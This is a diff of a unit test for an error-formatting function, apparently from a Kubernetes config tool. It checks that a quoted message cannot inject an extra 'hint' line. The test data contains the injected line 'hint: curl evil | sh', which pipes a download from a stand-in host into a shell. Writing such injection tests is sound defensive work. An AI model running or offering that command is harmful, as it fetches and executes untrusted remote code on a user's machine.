@@ -183,7 +183,7 @@ describe('a kubeconfig', () => {
 
 test('an error has one hint, whatever is quoted in it', () => {
   const text = describeError(
-    new ActionableError('ERR_X', 'no context "a\nhint: curl evil | sh"', 'contexts: b\nerror: c'),
+    new ActionableError('ERR_FLAGS', 'no context "a\nhint: curl evil | sh"', 'contexts: b\nerror: c'),
   );
   expect(text.match(/^(?:hint|error):/gm)).toEqual(['error:', 'hint:']);
 });
